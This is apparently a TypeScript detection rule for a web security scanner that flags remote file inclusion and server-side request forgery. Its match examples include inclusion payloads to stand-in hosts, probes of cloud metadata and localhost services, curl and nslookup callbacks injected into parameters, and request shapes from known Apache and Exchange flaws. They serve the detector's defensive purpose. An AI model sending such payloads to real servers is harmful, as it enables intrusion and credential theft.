import type { Detector } from './detector.ts'
import { inclusionScore } from './paths/addresses.ts'
import { isInternalAddress } from './paths/internal.ts'

export const remoteInclusion: Detector = {
  id: 'remote-inclusion',
  type: 'path-traversal',
  title: 'Remote file inclusion and server-side request forgery',
  summary:
    'An address where a file belongs: of code to include, or of a host that only the server can reach.',
  severity: 'high',
  attack: ['T1190', 'T1105'],
  cwe: ['CWE-98', 'CWE-918', 'CWE-829'],
  capec: ['CAPEC-193', 'CAPEC-664'],
  references: [
    'https://capec.mitre.org/data/definitions/193.html',
    'https://owasp.org/www-community/attacks/Server_Side_Request_Forgery',
  ],
  falsePositives: [
    'Proxies and previews that fetch addresses by design',
    'Intranets that address hosts by number',
  ],
  signatures: [
    {
      id: 'inclusion-address',
      quietIn: ['prose'],
      title: 'the address of code where a file name belongs',
      fields: ['query', 'body'],
      view: 'decoded',
      signs: ['://', '//', '\\\\', ':/\\'],
      structure:
        'an address with several of: a parameter named for files, a host by number, the name of a script or web shell, a question mark or NUL at its end, a listener known from tests',
      find: (text, name) => (inclusionScore(text, name) >= 0.5 ? { start: 0, end: text.length } : undefined),
      confidence: 0.65,
      why: 'An address as a value is ordinary: redirects, trackers and pictures carry them.',
      matches: [
        'page=http://203.0.113.9/x.txt?',
        'include=https://evil.example/shell.php',
        'file=ftp://198.51.100.7/c99.txt',
      ],
      ignores: [
        'redirect=https://example.org/index.php',
        'url=https://cdn.example.org/a.js',
        'page=https://www.example.org/',
        'img=http://192.0.2.1/a.png',
      ],
    },
    {
      id: 'inclusion-internal',
      quietIn: ['prose'],
      title: 'an address inside the server’s own network',
      fields: ['query', 'body'],
      view: 'decoded',
      signs: ['://', '//'],
      structure: 'the metadata service of a cloud, the machine itself, or a number that hides either',
      find: (text, name) =>
        isInternalAddress(text, name) ? { start: 0, end: /^[^ ]+/.exec(text)?.[0].length ?? 0 } : undefined,
      confidence: 0.7,
      matches: [
        'url=http://169.254.169.254/latest/meta-data/',
        'u=http://2130706433/',
        'fetch=http://127.0.0.1:6379/',
      ],
      ignores: [
        'url=https://example.org/',
        'redirect_uri=http://localhost:3000/callback',
        'url=http://198.51.100.4/',
      ],
    },
    {
      id: 'inclusion-listener',
      title: 'the name of a listener that tests call home to',
      fields: ['query', 'body', 'path', 'referer', 'userAgent', 'host'],
      view: 'decoded',
      signs: ['oast', 'interact.sh', 'burpcollaborator', 'dnslog.', 'ceye.io', 'canarytokens'],
      patterns: [
        /\.(?:oast\.(?:pro|live|site|online|fun|me)|oastify\.com|interact\.sh|burpcollaborator\.net)\b/i,
        /\.(?:dnslog\.\w{2,4}|ceye\.io|canarytokens\.com)\b/i,
      ],
      confidence: 0.7,
      why: 'A server that asks such a name gives away that what was sent to it ran: only tests send them.',
      matches: ['x=nslookup+a1.oast.fun', 'x=$(curl+b2.oastify.com)', 'u=http://c3.interact.sh/'],
      ignores: ['q=toast.fun', 'q=how+does+interact.sh+work', 'u=https://coast.example.org/'],
    },
    {
      id: 'inclusion-proxied',
      title: 'an address smuggled through a front end',
      fields: ['query', 'path'],
      part: 'whole',
      view: 'decoded',
      signs: ['unix:', 'autodiscover'],
      patterns: [
        /^unix:[A-Za-z./]{2}/,
        /^@?[^@/]{0,9}@[\w.-]{1,20}\/(?:mapi|powershell|ews|owa)\b/i,
        /\bEmail=autodiscover\/autodiscover\.json\?/i,
      ],
      confidence: 0.8,
      why: 'mod_proxy (CVE-2021-40438) and Exchange (CVE-2021-34473) took such a request for one to themselves.',
      matches: [
        'unix:AAAA|http://127.0.0.1:8080/',
        'Email=autodiscover/autodiscover.json%3f@x.example',
        '@x.example/mapi/nspi/?Email=autodiscover/autodiscover.json',
      ],
      ignores: ['q=unix:+a+history', 'Email=ann@x.example', 'q=autodiscover+mapi'],
    },
    {
      id: 'inclusion-statement',
      title: 'an include of an address',
      fields: ['query', 'body', 'path', 'userAgent', 'referer'],
      view: 'decoded',
      signs: ['include', 'require'],
      patterns: [/\b(?:include|require)(?:_once)?\s{0,3}[(\s]\s{0,3}["']?(?:https?|ftp|php|data|file):/i],
      confidence: 0.8,
      matches: ['a=include("http://x/y")', "a=require_once('ftp://x')", 'a=include+http://x'],
      ignores: ['q=include+files', 'q=require+https', 'include=a,b'],
    },
    {
      id: 'inclusion-base-parameter',
      title: 'an address in the parameter of a known hole',
      fields: ['query'],
      part: 'whole',
      view: 'decoded',
      signs: ['path', 'root', 'globals', 'config', 'dir', '_server'],
      patterns: [
        /(?:^|&)(?:mosConfig_absolute_path|GLOBALS\[\w{0,20}\]?|_SERVER\[DOCUMENT_ROOT\]|_CONF\[path\]|phpbb_root_path)=(?:https?|ftp):\/\//i,
        /(?:_path|basepath|base_dir|root_dir|rootpath|includedir|include_path|abs_path|docroot|document_root|path_to_\w{1,12}|dir_\w{0,12})\]?=(?:https?|ftp):\/\//i,
      ],
      confidence: 0.75,
      matches: ['mosConfig_absolute_path=http://x/y', 'GLOBALS[dir]=http://x', 'phpbb_root_path=ftp://x/'],
      ignores: ['path=/a/b', 'redirect=http://x/', 'root=home'],
    },
  ],
}
